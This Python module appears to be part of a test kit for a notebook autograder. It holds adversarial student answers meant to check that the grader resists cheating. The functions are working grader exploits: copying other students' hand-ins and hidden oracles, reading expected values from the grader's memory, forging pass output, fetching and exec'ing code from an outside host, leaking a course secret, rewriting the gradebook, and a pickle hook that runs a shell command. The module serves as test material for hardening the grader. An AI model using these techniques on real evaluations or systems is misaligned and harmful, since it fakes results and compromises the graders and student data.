# mypy: ignore-errors
# ruff: noqa: D103, PTH103, PTH118, PTH123, PTH207, PTH208, SIM115 (a student wrote this)
"""Answers that look for marks elsewhere: in files, in the grader's memory, on the network, in the gradebook.

The functions here are never called in this process; their text goes into the notebooks of one of the demo's students.
If one of them found what it is looking for, it would score.
"""

from __future__ import annotations

import inspect
from itertools import cycle
from pathlib import Path

import numpy as np

COURSE, KIT = "", ""
"""In the notebook: where the demo's course and this kit are, which a student could only guess."""
QUESTION = ""
"""In the notebook: the name of what is asked for."""


def stolen(name, *patterns):
    """Run the first solution of `name` found in files of the course or the kit."""
    import glob
    import json

    for place in (COURSE, KIT, ".", "..", "../..", "../../.."):
        for pattern in patterns:
            for path in glob.glob(f"{place}/{pattern}", recursive=True):
                try:
                    text = open(path).read()
                    cells = json.loads(text)["cells"] if path.endswith(".ipynb") else [{"source": text}]
                except Exception:
                    continue
                for cell in cells:
                    source = "".join(cell["source"])
                    if f"def {name}(" in source and "NotImplementedError" not in source:
                        space = {}
                        exec("import numpy as np\n" + source, space)
                        return space[name]
    raise LookupError("no solution found")


def from_sources(*args):
    return stolen(QUESTION, "source/*/*.ipynb", "cs231n/**/*.py")(*args)


def from_the_oracles(*args):
    from autograder.hidden import oracles

    return getattr(oracles, QUESTION)(*args)


def from_hand_ins(*args):
    return stolen(QUESTION, "submitted/*/*/*.ipynb", "exchange/*/inbound/*/*.ipynb", "students/*/*/*.ipynb")(*args)


def from_memory(*args):
    import gc
    import sys

    frame = sys._getframe()
    while frame is not None:
        for name, value in frame.f_locals.items():
            if "want" in name or "expected" in name:
                return value
        frame = frame.f_back
    found = [o for o in gc.get_objects() if isinstance(o, dict) and "want" in o]
    return found[0]["want"]


def leaving(*args):
    import os

    os._exit(0)


def forging(*args):
    import os

    print(QUESTION, ": 1 of 1 points")
    for number in range(1, 20):
        try:
            os.write(number, b'{"ok": true, "passed": true, "score": 1.0, "value": 1.0}\n')
        except OSError:
            continue
    return 1.0, args[0]


def from_the_network(*args):
    import urllib.request

    with urllib.request.urlopen("http://192.0.2.1/solutions.py", timeout=1) as page:
        space = {}
        exec(page.read(), space)
    return space[QUESTION](*args)


def from_the_environment(*args):
    import os

    secret = os.environ.get("COURSE_SECRET") or open(f"{COURSE}/.course-secret").read()
    raise RuntimeError(f"the secret is {secret}")


def in_the_gradebook(*args):
    import sqlite3

    gradebook = sqlite3.connect(f"{COURSE}/gradebook.db")
    gradebook.execute("update grade set auto_score = 100, manual_score = 100")
    gradebook.commit()
    return args


class AlwaysRight:
    """Claims to be equal and close to anything."""

    def __eq__(self, other):
        return True

    def __le__(self, other):
        return True

    def __array_function__(self, *args, **kwargs):
        return True

    def __reduce__(self):
        import os

        return os.system, (f"touch {COURSE}/owned",)

    __lt__ = __ge__ = __le__
    __hash__ = None


def by_being_equal(*args):
    return AlwaysRight(), AlwaysRight()


def in_the_files(*args):
    import os

    os.makedirs(f"{COURSE}/autograded/me", exist_ok=True)
    for folder, _, files in os.walk(f"{COURSE}/autograded"):
        for file in files:
            open(os.path.join(folder, file), "w").write("full marks")
    return os.listdir(COURSE)


def by_rebinding(*args):
    np.linalg.norm = lambda *args, **kwargs: 0.0
    np.array_equal = np.allclose = lambda *args, **kwargs: True
    return args[0], None


_ATTEMPTS = (from_sources, from_the_oracles, from_hand_ins, from_memory, leaving, forging, from_the_network,
             from_the_environment, in_the_gradebook, by_being_equal, in_the_files, by_rebinding)  # fmt: skip


def answers(questions):
    """The source of an attempt for each function that is asked for, all of them in turn."""
    found = {}
    for question, attempt in zip(questions, cycle(_ATTEMPTS)):
        source = inspect.getsource(attempt).replace(f"def {attempt.__name__}(", f"def {question}(")
        found[question] = source.replace("QUESTION", repr(question))
    return found


def helpers(course: Path, kit: Path) -> list[str]:
    """The code cells with what the attempts share."""
    places = f"import numpy as np\n\nCOURSE, KIT = {str(course)!r}, {str(kit)!r}"
    return [places, inspect.getsource(stolen), inspect.getsource(AlwaysRight)]
